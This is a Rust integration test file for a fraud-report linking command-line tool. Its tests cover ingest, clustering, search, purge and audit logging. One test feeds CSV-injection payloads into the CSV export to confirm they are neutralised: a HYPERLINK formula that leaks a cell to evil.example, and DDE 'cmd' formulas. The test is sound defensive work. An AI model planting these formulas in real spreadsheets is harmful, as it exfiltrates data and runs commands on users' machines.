//! The command line, end to end: ingest, rejects, idempotence, check,
//! export, explain, normalise and extract.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use predicates::str::contains;

use crate::support::{TestApp, fixture, ndjson};

fn export(app: &TestApp) -> Vec<serde_json::Value> {
    let out = app.cmd().args(["export", "clusters"]).assert().success();
    ndjson(&out.get_output().stdout)
}

/// Report id -> cluster id.
fn membership(clusters: &[serde_json::Value]) -> BTreeMap<String, String> {
    let mut m = BTreeMap::new();
    for c in clusters {
        for r in c["report_ids"].as_array().unwrap() {
            m.insert(
                r.as_str().unwrap().to_owned(),
                c["cluster_id"].as_str().unwrap().to_owned(),
            );
        }
    }
    m
}

#[test]
fn ingesting_the_fixtures_links_the_national_bank_helpdesk_group() {
    let app = TestApp::new();
    app.cmd()
        .arg("ingest")
        .arg(fixture("reports.ndjson"))
        .assert()
        .success()
        .stderr(contains("22 accepted"));
    let clusters = export(&app);
    let m = membership(&clusters);
    assert_eq!(m.len(), 22, "every report in exactly one cluster");
    // Amsterdam, Rotterdam, Limburg, Oost-Nederland and Breda share the mule
    // account or the offender's mobile; the Den Haag report only has a typo.
    let helpdesk = &m["2026-AMS-000101"];
    for r in [
        "2026-RTM-000233",
        "2026-LIM-000045",
        "2026-ON-000310",
        "2026-ZWB-000077",
    ] {
        assert_eq!(&m[r], helpdesk, "{r}");
    }
    assert_ne!(&m["2026-DH-000512"], helpdesk);
    // The spoofed Rabobank number is in the first two reports, never a link
    // on its own; the victim's own IBAN in two unrelated cases neither.
    assert_ne!(m["2026-OB-000410"], m["2026-OB-000488"]);
    // The refiling by the same victim joins its earlier report.
    assert_eq!(m["2026-NH-000502"], m["2026-NH-000503"]);
}

#[test]
fn re_importing_changes_nothing_and_keeps_every_cluster_id() {
    let app = TestApp::with_fixtures();
    let before = membership(&export(&app));
    app.cmd()
        .arg("ingest")
        .arg(fixture("reports.ndjson"))
        .assert()
        .success()
        .stderr(contains("0 accepted, 0 updated, 22 unchanged"));
    assert_eq!(membership(&export(&app)), before);
}

#[test]
fn a_changed_report_replaces_its_earlier_version_and_links() {
    let app = TestApp::new();
    let dir = app.data().join("in");
    std::fs::create_dir_all(&dir).unwrap();
    let v1 = dir.join("v1.ndjson");
    let v2 = dir.join("v2.ndjson");
    std::fs::write(&v1, concat!(
        r#"{"id": "A", "filed_at": "2026-01-01T10:00:00Z", "unit": "Amsterdam", "team": "T", "narrative": "Hij appte vanaf 06-11112222."}"#, "\n",
        r#"{"id": "B", "filed_at": "2026-01-02T10:00:00Z", "unit": "Limburg", "team": "T", "narrative": "Hij appte vanaf 06-11112222."}"#, "\n",
    )).unwrap();
    std::fs::write(&v2, concat!(
        r#"{"id": "B", "filed_at": "2026-01-02T10:00:00Z", "unit": "Limburg", "team": "T", "narrative": "Hij appte vanaf 06-33334444."}"#, "\n",
    )).unwrap();
    app.cmd().arg("ingest").arg(&v1).assert().success();
    assert_eq!(
        membership(&export(&app))["A"],
        membership(&export(&app))["B"]
    );
    app.cmd()
        .arg("ingest")
        .arg(&v2)
        .assert()
        .success()
        .stderr(contains("1 updated"));
    let m = membership(&export(&app));
    assert_ne!(m["A"], m["B"]);
    assert_eq!(m.len(), 2);
}

#[test]
fn bad_lines_are_rejected_with_line_and_field_and_good_lines_are_kept() {
    let app = TestApp::new();
    let rejects = app.data().join("rejects.ndjson");
    app.cmd()
        .arg("ingest")
        .arg(fixture("tests/mixed-bad-lines.ndjson"))
        .arg("--rejects")
        .arg(&rejects)
        .assert()
        .code(3)
        .stderr(contains("4 rejected"));
    let rejected = ndjson(&std::fs::read(&rejects).unwrap());
    let got: Vec<(u64, String)> = rejected
        .iter()
        .map(|r| {
            (
                r["line"].as_u64().unwrap(),
                r["field"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert_eq!(
        got,
        vec![
            (2, "filed_at".to_owned()),
            (3, "(line)".to_owned()),
            (5, "unit".to_owned()),
            (6, "amount_eur".to_owned()),
        ]
    );
    assert_eq!(rejected[1]["raw"], "this is not json");
    // The three good lines name one number in three spellings.
    let clusters = export(&app);
    let m = membership(&clusters);
    assert_eq!(
        m.keys().cloned().collect::<Vec<_>>(),
        vec!["T-1", "T-3", "T-6"]
    );
    assert_eq!(m.values().collect::<BTreeSet<_>>().len(), 1);
}

#[test]
fn check_names_the_matching_cluster_and_stores_nothing() {
    let app = TestApp::with_fixtures();
    let cluster = membership(&export(&app))["2026-AMS-000101"].clone();
    let input = r#"{"narrative": "Ik moest het geld overmaken naar NL42 INGB 0006 1234 56. Mijn eigen rekening is NL91ABNA0417164300."}
{"narrative": "Een verkoper op marktplaats.nl vroeg om betaling.", "identifiers": [{"type": "phone", "value": "088 722 67 67"}]}
"#;
    let out = app
        .cmd()
        .args(["check", "-"])
        .write_stdin(input)
        .assert()
        .success();
    let answers = ndjson(&out.get_output().stdout);
    assert_eq!(answers.len(), 2);
    assert_eq!(answers[0]["matches"][0]["cluster_id"], cluster.as_str());
    assert_eq!(
        answers[0]["matches"][0]["matched_on"][0]["value"],
        "NL42INGB0006123456"
    );
    assert_eq!(
        answers[0]["matches"].as_array().unwrap().len(),
        1,
        "the victim's own account matches nothing"
    );
    // Only benign identifiers: no match, but they are listed and flagged.
    assert!(answers[1]["matches"].as_array().unwrap().is_empty());
    assert!(
        answers[1]["identifiers"]
            .as_array()
            .unwrap()
            .iter()
            .all(|i| !i["benign"].is_null())
    );
    assert_eq!(membership(&export(&app)).len(), 22, "check stores nothing");
}

#[test]
fn export_formats_cover_every_report() {
    let app = TestApp::with_fixtures();
    let csv = app
        .cmd()
        .args(["export", "clusters", "--format", "csv"])
        .assert()
        .success();
    let text = String::from_utf8(csv.get_output().stdout.clone()).unwrap();
    assert_eq!(text.lines().count(), 23, "a header and one row per report");
    let gexf = app
        .cmd()
        .args(["export", "clusters", "--format", "gexf"])
        .assert()
        .success();
    let xml = String::from_utf8(gexf.get_output().stdout.clone()).unwrap();
    assert!(xml.contains("<gexf") && xml.contains("NL42INGB0006123456"));
    assert!(
        !xml.contains("<script>"),
        "report text is escaped or absent"
    );
}

#[test]
fn explain_gives_the_chain_or_names_what_blocks_it() {
    let app = TestApp::with_fixtures();
    app.cmd()
        .args(["explain", "2026-AMS-000101", "2026-ON-000310"])
        .assert()
        .success()
        .stdout(contains("linked by a chain"))
        .stdout(contains("phone:+31642819937"));
    app.cmd()
        .args(["explain", "2026-AMS-000101", "2026-RTM-000233"])
        .assert()
        .success()
        .stdout(contains("iban:NL42INGB0006123456"));
    app.cmd()
        .args(["explain", "2026-AMS-000190", "2026-ZWB-000300"])
        .assert()
        .success()
        .stdout(contains("not linked"));
}

#[test]
fn a_confirmed_suggestion_merges_and_a_rejected_one_splits_again() {
    let app = TestApp::with_fixtures();
    let out = app.cmd().arg("suggestions").assert().success();
    let suggestions = ndjson(&out.get_output().stdout);
    assert!(
        suggestions
            .iter()
            .any(|s| s["basis"] == "iban_typo" && s["b"]["value"] == "NL42INGB0006123456")
    );
    let before = membership(&export(&app));
    let big = before["2026-AMS-000101"].clone();
    app.cmd()
        .args([
            "link",
            "confirm",
            "iban:NL42INGB0006123451",
            "iban:NL42 INGB 0006 1234 56",
            "--by",
            "analyst1",
        ])
        .assert()
        .success()
        .stdout(contains("merged"));
    let merged = membership(&export(&app));
    assert_eq!(
        merged["2026-DH-000512"], big,
        "the older, larger cluster keeps its id"
    );
    app.cmd()
        .args([
            "link",
            "reject",
            "iban:NL42INGB0006123451",
            "iban:NL42INGB0006123456",
        ])
        .assert()
        .success();
    let split = membership(&export(&app));
    assert_eq!(split["2026-AMS-000101"], big);
    assert_ne!(split["2026-DH-000512"], big);
    let out = app.cmd().arg("suggestions").assert().success();
    assert!(
        !ndjson(&out.get_output().stdout)
            .iter()
            .any(|s| s["basis"] == "iban_typo"),
        "a rejected suggestion stays away"
    );
}

#[test]
fn normalize_prints_one_object_per_value() {
    let app = TestApp::new();
    let out = app
        .cmd()
        .args([
            "normalize",
            "phone",
            "+31 (0)6-1234 5678",
            "0031612345678",
            "12-03-2025",
        ])
        .assert()
        .success();
    let lines = ndjson(&out.get_output().stdout);
    assert_eq!(lines[0]["value"], "+31612345678");
    assert_eq!(lines[1]["value"], "+31612345678");
    assert_eq!(lines[2]["valid"], false);
    assert!(lines[2]["error"].as_str().unwrap().contains("phone"));
}

#[test]
fn extract_answers_every_line_in_order_and_keeps_going_after_a_bad_one() {
    let app = TestApp::new();
    let input = "{\"id\": \"t1\", \"text\": \"Bel 06-12345678 of mail info@nep-shop.nl\"}\nnot json\n{\"id\": \"t2\", \"text\": \"hxxps://rabo-veilig[.]nl/login?utm_source=sms\"}\n";
    let out = app
        .cmd()
        .args(["extract", "-"])
        .write_stdin(input)
        .assert()
        .code(3);
    let lines = ndjson(&out.get_output().stdout);
    assert_eq!(lines.len(), 3);
    assert_eq!(lines[0]["id"], "t1");
    assert!(lines[1]["error"].is_string());
    let values: Vec<&str> = lines[2]["identifiers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["value"].as_str().unwrap())
        .collect();
    assert_eq!(
        values,
        vec!["https://rabo-veilig.nl/login", "rabo-veilig.nl"]
    );
}

fn search(app: &TestApp, args: &[&str]) -> Vec<String> {
    let out = app.cmd().arg("search").args(args).assert().success();
    ndjson(&out.get_output().stdout)
        .iter()
        .map(|h| h["report_id"].as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn search_finds_identifiers_in_any_written_form_and_filters() {
    let app = TestApp::with_fixtures();
    let mut by_iban = search(&app, &["nl42 ingb 0006 1234 56"]);
    by_iban.sort();
    assert_eq!(
        by_iban,
        vec![
            "2026-AMS-000101",
            "2026-LIM-000045",
            "2026-RTM-000233",
            "2026-ZWB-000077"
        ]
    );
    let phone = search(&app, &["+31 6 1287 3344"]);
    assert_eq!(phone.len(), 4, "{phone:?}");
    assert_eq!(
        search(&app, &["\"veilige rekening\""]),
        vec!["2026-AMS-000101"]
    );
    assert_eq!(
        search(&app, &["rekening", "--unit", "Limburg"]),
        vec!["2026-LIM-000045"]
    );
    assert_eq!(
        search(
            &app,
            &[
                "pas",
                "--type",
                "phishing",
                "--from",
                "2026-06-01",
                "--to",
                "2026-06-01"
            ]
        ),
        vec!["2026-MN-000300"]
    );
    let page1 = search(&app, &["rekening", "--limit", "2", "--sort", "date"]);
    let page2 = search(
        &app,
        &[
            "rekening", "--limit", "2", "--offset", "2", "--sort", "date",
        ],
    );
    assert_eq!(page1.len(), 2);
    assert!(page1.iter().all(|id| !page2.contains(id)));
    // The statement with <script> comes back escaped.
    let out = app.cmd().args(["search", "politie"]).assert().success();
    let text = String::from_utf8(out.get_output().stdout.clone()).unwrap();
    assert!(
        text.contains("&lt;script&gt;") && !text.contains("<script>"),
        "{text}"
    );
    app.cmd()
        .args(["search", "\"unclosed"])
        .assert()
        .failure()
        .stderr(contains("query"));
}

#[test]
fn a_deleted_index_is_rebuilt_from_the_store() {
    let app = TestApp::with_fixtures();
    let before = search(&app, &["rekening", "--limit", "100"]);
    std::fs::remove_dir_all(app.data().join("search")).unwrap();
    // The next command notices the missing index and catches up by itself.
    assert_eq!(search(&app, &["rekening", "--limit", "100"]), before);
    app.cmd()
        .arg("reindex")
        .assert()
        .success()
        .stderr(contains("reindexed 22"));
    assert_eq!(search(&app, &["rekening", "--limit", "100"]), before);
}

#[test]
fn purge_deletes_old_reports_everywhere_and_is_logged() {
    let app = TestApp::with_fixtures();
    let before = membership(&export(&app));
    // Keep what was filed in the last `days` days: the fixtures run from
    // February to August 2026, so a cut in between purges the early ones.
    let cut = time::Date::from_calendar_date(2026, time::Month::May, 1).unwrap();
    let today = time::OffsetDateTime::now_utc().date();
    let days = (today - cut).whole_days();
    app.cmd()
        .args(["purge", "--days", &days.to_string()])
        .assert()
        .success()
        .stdout(contains("purged"));
    let after = membership(&export(&app));
    assert!(
        after.len() < before.len() && !after.is_empty(),
        "{} -> {}",
        before.len(),
        after.len()
    );
    assert!(
        !after.contains_key("2026-AMS-000101"),
        "filed in March, purged"
    );
    assert!(
        after.contains_key("2026-OB-000488"),
        "filed in August, kept"
    );
    // Gone from search and from the store, and the purge is in the access log.
    assert!(search(&app, &["nl42 ingb 0006 1234 56"]).is_empty());
    let out = app
        .cmd()
        .args(["audit", "--action", "purge"])
        .assert()
        .success();
    assert_eq!(ndjson(&out.get_output().stdout).len(), 1);
}

/// The cells of a CSV text (RFC 4180: quoted cells, doubled quotes).
fn csv_cells(text: &str) -> Vec<Vec<String>> {
    let mut rows = vec![Vec::new()];
    let mut cell = String::new();
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => rows.last_mut().unwrap().push(std::mem::take(&mut cell)),
            (false, '\n') => {
                rows.last_mut().unwrap().push(std::mem::take(&mut cell));
                rows.push(Vec::new());
            }
            (false, c) => cell.push(c),
        }
    }
    rows.retain(|r| !r.is_empty());
    rows
}

// See: issue 19
#[test]
fn issue_19_csv_export_turns_formulas_from_intake_fields_into_text() {
    let app = TestApp::new();
    let hostile = [
        serde_json::json!({"id": "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
            "filed_at": "2026-03-01T10:00:00Z", "unit": "=cmd|' /C calc'!A0",
            "team": "@SUM(1+1)*cmd|' /C calc'!A0", "fraud_type": "+1;=2+3",
            "narrative": "Hij appte vanaf 06-31415926 en vroeg om geld."}),
        serde_json::json!({"id": "-2+3", "filed_at": "2026-03-02T10:00:00Z",
            "unit": "Limburg;=1+1", "team": "\u{FF1D}1+1", "fraud_type": "marketplace",
            "narrative": "Het nummer was 06 31 41 59 26."}),
    ];
    let input = app.data().join("hostile.ndjson");
    std::fs::write(
        &input,
        hostile.iter().map(|r| format!("{r}\n")).collect::<String>(),
    )
    .unwrap();
    app.cmd().arg("ingest").arg(&input).assert().success();
    let out = app
        .cmd()
        .args(["export", "clusters", "--format", "csv"])
        .assert()
        .success();
    let text = String::from_utf8(out.get_output().stdout.clone()).unwrap();
    let rows = csv_cells(&text);
    assert_eq!(rows.len(), 3, "a header and two reports: {text}");
    let formula = |c: char| "=+-@\t\r\u{FF1D}\u{FF0B}\u{FF0D}\u{FF20}".contains(c);
    for row in &rows[1..] {
        assert_eq!(row.len(), 9, "{row:?}");
        // Report id, unit, team and fraud type: text cells.
        for cell in [&row[3], &row[5], &row[6], &row[7]] {
            assert!(
                !cell.starts_with(formula),
                "a spreadsheet would run {cell:?}"
            );
        }
    }
    for expected in [
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "'=cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'+1;'=2+3",
        "'-2+3",
        "Limburg;'=1+1",
        "'\u{FF1D}1+1",
    ] {
        assert!(
            rows.iter().flatten().any(|c| c == expected),
            "{expected:?} not in {rows:?}"
        );
    }
}

// See: issue 19 (finding 4). No command-line read was logged: search,
// clusters, cluster show, explain, export, similar, suggestions, hubs and
// check showed report data to whoever ran them without a row, and without
// asking why.
#[test]
fn issue_19_every_cli_read_is_logged_with_who_what_and_why() {
    let app = TestApp::with_fixtures();
    let cluster = export(&app)
        .into_iter()
        .find(|c| c["report_ids"].to_string().contains("2026-AMS-000101"))
        .unwrap()["cluster_id"]
        .as_str()
        .unwrap()
        .to_owned();
    // Without a purpose, a read is refused and says how to give one.
    app.cmd()
        .env_remove("FRAUDLINK_REASON")
        .args(["search", "rekening"])
        .assert()
        .failure()
        .stderr(contains("--reason"));
    let reads: Vec<(&str, Vec<&str>, &str)> = vec![
        (
            "search",
            vec!["search", "nl42 ingb 0006 1234 56"],
            "2026-AMS-000101",
        ),
        (
            "list_clusters",
            vec!["clusters", "--json"],
            "2026-AMS-000101",
        ),
        (
            "read_cluster",
            vec!["cluster", "show", &cluster],
            "2026-AMS-000101",
        ),
        (
            "explain",
            vec!["explain", "2026-AMS-000101", "2026-ON-000310"],
            "2026-ON-000310",
        ),
        (
            "export_cluster",
            vec![
                "export",
                "clusters",
                "--format",
                "csv",
                "--cluster",
                &cluster,
            ],
            "2026-AMS-000101",
        ),
        (
            "export_clusters",
            vec!["export", "clusters"],
            "2026-OB-000488",
        ),
        (
            "similar",
            vec!["similar", "2026-AMS-000101"],
            "2026-AMS-000101",
        ),
        ("suggestions", vec!["suggestions"], "reports"),
        ("hubs", vec!["hubs"], "identifiers"),
        ("check", vec!["check", "-"], &cluster),
    ];
    for (_, args, _) in &reads {
        app.cmd()
            .env("USER", "j.jansen")
            .args(["--reason", "zaak 2026-77"])
            .args(args)
            .write_stdin(r#"{"narrative": "naar NL42 INGB 0006 1234 56"}"#)
            .assert()
            .success();
    }
    let out = app
        .cmd()
        .args(["audit", "--limit", "100"])
        .assert()
        .success();
    let rows = ndjson(&out.get_output().stdout);
    for (action, args, shown) in &reads {
        let row = rows
            .iter()
            .find(|r| r["action"] == *action)
            .unwrap_or_else(|| panic!("no {action} row for {args:?}: {rows:?}"));
        assert_eq!(row["role"], "cli", "{row}");
        assert_eq!(row["actor"], "j.jansen", "{row}");
        assert_eq!(row["reason"], "zaak 2026-77", "{row}");
        assert_eq!(row["outcome"], "ok", "{row}");
        assert!(
            row["targets"].to_string().contains(shown),
            "{action}: {row}"
        );
    }
    // The whole export names every report it wrote.
    let all = rows
        .iter()
        .find(|r| r["action"] == "export_clusters")
        .unwrap();
    assert_eq!(all["targets"]["reports"].as_array().unwrap().len(), 22);
}

// See: issue 19 (finding 5): `audit --token 1` panicked, the global
// `--token` (an API token) and audit's own filter clashing in clap.
#[test]
fn issue_19_audit_filters_by_token_id_in_either_spelling() {
    let app = TestApp::with_fixtures();
    let by_id = app
        .cmd()
        .args(["audit", "--token-id", "1"])
        .assert()
        .success();
    let by_old_spelling = app.cmd().args(["audit", "--token", "1"]).assert().success();
    let rows = ndjson(&by_id.get_output().stdout);
    assert!(rows.iter().all(|r| r["token_id"] == 1), "{rows:?}");
    assert_eq!(
        rows,
        ndjson(&by_old_spelling.get_output().stdout),
        "--token N is read as --token-id N"
    );
}

// See: issue 19 (finding 4) and docs/formats.md sections 3 and 4: the
// contract's batch commands are run unattended by other systems (and by
// the evaluation); without a purpose they still answer, and the read is
// logged with who and what, and no purpose.
#[test]
fn issue_19_contract_batch_commands_run_without_a_reason_and_are_logged() {
    let app = TestApp::with_fixtures();
    let out = app
        .cmd()
        .env_remove("FRAUDLINK_REASON")
        .env("USER", "evaluatie")
        .args(["export", "clusters"])
        .assert()
        .success()
        .stderr(contains("--reason"));
    assert!(!ndjson(&out.get_output().stdout).is_empty());
    app.cmd()
        .env_remove("FRAUDLINK_REASON")
        .env("USER", "evaluatie")
        .args(["check", "-"])
        .write_stdin(r#"{"narrative": "naar NL42 INGB 0006 1234 56"}"#)
        .assert()
        .success();
    let out = app
        .cmd()
        .args(["audit", "--limit", "100"])
        .assert()
        .success();
    let rows = ndjson(&out.get_output().stdout);
    for action in ["export_clusters", "check"] {
        let row = rows
            .iter()
            .find(|r| r["action"] == action && r["actor"] == "evaluatie")
            .unwrap_or_else(|| panic!("no {action} row: {rows:?}"));
        assert!(row["reason"].is_null(), "{row}");
    }
}

#[test]
fn an_export_cut_off_by_its_reader_is_logged_as_incomplete_naming_what_went_out() {
    let app = TestApp::with_fixtures();
    // A reader that stops at once (`| head -c 0`): the write fails.
    let mut child = crate::support::process(app.data())
        .args(["export", "clusters"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    assert!(!out.status.success(), "a broken pipe fails the export");
    let out = app
        .cmd()
        .args(["audit", "--action", "export_clusters"])
        .assert()
        .success();
    let rows = ndjson(&out.get_output().stdout);
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!(rows[0]["outcome"], "incomplete", "{}", rows[0]);
    assert!(
        rows[0]["targets"]["clusters"].as_u64().unwrap() > 0,
        "{}",
        rows[0]
    );
}

// See: issue 23 (open without rebuilding: an import re-clusters once it
// has stored its reports, so a rebuild on open was thrown away)
#[test]
fn issue_23_an_import_into_a_store_with_current_saved_clusters_rebuilds_them_once() {
    let app = TestApp::with_fixtures();
    let files = tempfile::tempdir().unwrap();
    let more = files.path().join("more.ndjson");
    std::fs::write(
        &more,
        r#"{"id": "T-MORE-1", "filed_at": "2026-06-01T10:00:00Z", "unit": "Oost-Nederland", "team": "Ede", "narrative": "Ik moest betalen naar NL42 INGB 0006 1234 56 voor een fiets."}
{"id": "T-MORE-2", "filed_at": "2026-06-02T10:00:00Z", "unit": "Noord-Nederland", "team": "Emmen", "narrative": "De verkoper appte vanaf 06-55501234 en ik betaalde."}
{"id": "T-MORE-3", "filed_at": "2026-06-03T10:00:00Z", "unit": "Limburg", "team": "Venlo", "narrative": "Zelfde verkoper, 06 555 012 34, geen fiets gekregen."}
"#,
    )
    .unwrap();
    let import = |app: &TestApp, files: &[&Path]| {
        let out = app
            .cmd()
            .env("FRAUDLINK_LOG", "info")
            .arg("ingest")
            .args(files)
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        assert!(out.status.success(), "{stderr}");
        stderr.matches("clusters rebuilt").count()
    };
    assert_eq!(
        import(&app, &[&more]),
        1,
        "re-clustered once, after storing"
    );
    // Nothing new: nothing rebuilt at all.
    assert_eq!(import(&app, &[&more]), 0);
    // The clusters are those of both files imported into a new store.
    let at_once = TestApp::new();
    import(&at_once, &[&fixture("reports.ndjson"), &more]);
    let (grown, whole) = (membership(&export(&app)), membership(&export(&at_once)));
    assert_eq!(grown, whole);
    assert_eq!(grown["T-MORE-1"], grown["2026-AMS-000101"]);
    assert_eq!(grown["T-MORE-2"], grown["T-MORE-3"]);
    // Without the saved clusters the open rebuilds them, as before.
    std::fs::remove_file(fraudlink::saved::path(app.data())).unwrap();
    assert_eq!(import(&app, &[&more]), 1, "rebuilt on open, nothing stored");
    assert_eq!(import(&app, &[&more]), 0);
    // So it does with other linking settings than the saved clusters'.
    let settings = files.path().join("other.toml");
    std::fs::write(&settings, "[linking]\nhub_min_reports = 40\n").unwrap();
    let out = app
        .cmd()
        .env("FRAUDLINK_LOG", "info")
        .arg("--config")
        .arg(&settings)
        .arg("ingest")
        .arg(&more)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert_eq!(stderr.matches("clusters rebuilt").count(), 1, "{stderr}");
}
